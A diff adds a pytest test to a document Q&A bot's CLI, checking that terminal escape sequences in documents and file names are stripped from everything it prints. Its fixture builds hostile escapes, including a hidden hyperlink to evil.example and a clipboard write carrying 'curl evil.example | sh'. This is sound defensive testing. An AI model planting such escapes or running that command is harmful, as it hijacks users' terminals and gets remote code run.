@@ -3,12 +3,16 @@ outside the folders given, no secrets in logs."""
 
 from __future__ import annotations
 
+import base64
+import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+import yaml
 from click.testing import CliRunner
 
 from qa_bot.cli import cli
@@ -142,3 +146,50 @@ def test_cited_sources_survive_stripping_of_line_numbers(injected, docs):
     answer = injected.answer("Where must boats moor after sunset?")
     assert "rules.md" in cited(answer)
     assert [c.start_line for c in answer.citations if c.source.endswith("rules.md")] == [5]  # "Boats must moor" line
+
+
+ESC = "\x1b"
+# An OSC 8 hyperlink hiding its target, an OSC 52 write to the clipboard, a C1 CSI (U+009B) colour,
+# a clear-screen, a title change, backspaces, a bell.
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+OSC52 = f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}\x07"
+ESCAPING = (
+    f"# Keepers {ESC}[2J{ESC}]0;pwned\x07 of the\x08\x08\x08 light\n\n"
+    f"The lighthouse keeper is called {ESC}]8;;https://evil.example/x{ESC}\\Marguerite \x9b1mOlsen\x9b0m"
+    f"{ESC}]8;;{ESC}\\.{OSC52}\n"
+    "Her assistant is Tomas Berg, who keeps the log in the tower.\n"
+)
+
+
+@pytest.mark.slow
+def test_terminal_escapes_in_documents_never_reach_the_terminal(docs, tmp_path):
+    """Issue 11 item 9: control characters are stripped from everything the CLI prints."""
+    (docs / "keeper.txt").unlink()
+    (docs / f"keeper{ESC}]0;pwned\x07.md").write_text(ESCAPING)  # a title change in a file name
+    (docs / f"notes{ESC}[2J\x9b31m.bin").write_bytes(b"\x00\x01")  # skipped: its name is printed
+    cases = tmp_path / "cases.yaml"
+    cases.write_text(yaml.safe_dump({"cases": [{"question": KEEPER_Q, "expect_any": ["lighthouse keeper"]},
+                                               {"question": KEEPER_Q, "expect_any": ["nobody"]}]}))
+    env = {**os.environ, "QA_BOT_INDEX_DIR": str(tmp_path / "ix")}
+    qa_bot = [sys.executable, "-m", "qa_bot.cli"]
+    runs = {
+        "index": ([*qa_bot, "index", str(docs)], None),
+        "ask": ([*qa_bot, "ask", KEEPER_Q], None),
+        "ask --json": ([*qa_bot, "ask", "--json", KEEPER_Q], None),
+        "chat": ([*qa_bot, "chat"], f"{KEEPER_Q}\n"),
+        "eval": ([*qa_bot, "eval", str(cases)], None),
+        "status": ([*qa_bot, "status", str(docs)], None),
+    }
+    out = {}
+    for name, (argv, stdin) in runs.items():
+        done = subprocess.run(argv, env=env, cwd=ROOT, input=stdin, capture_output=True, text=True, timeout=120)
+        out[name] = done.stdout + done.stderr
+        assert not CONTROL.findall(out[name]), f"{name} printed {sorted(set(CONTROL.findall(out[name])))}"
+    assert "notes[2J31m.bin: unsupported file type" in out["index"]
+    assert "Marguerite 1mOlsen" in out["ask"] and "keeper]0;pwned.md" in out["ask"]
+    assert "Keepers [2J]0;pwned of the light" in out["ask"]  # the heading, inert
+    answer = json.loads(out["ask --json"])  # JSON keeps the text exactly, escaped
+    assert f"\x9b1mOlsen\x9b0m{ESC}]8;;{ESC}\\.{OSC52}" in answer["text"]
+    assert "\\u009b1mOlsen" in out["ask --json"] and "\\u001b]52;c;" in out["ask --json"]
+    assert "Marguerite 1mOlsen" in out["chat"]
+    assert "1/2 passed" in out["eval"] and "is called" in out["eval"]  # its table shows the answers
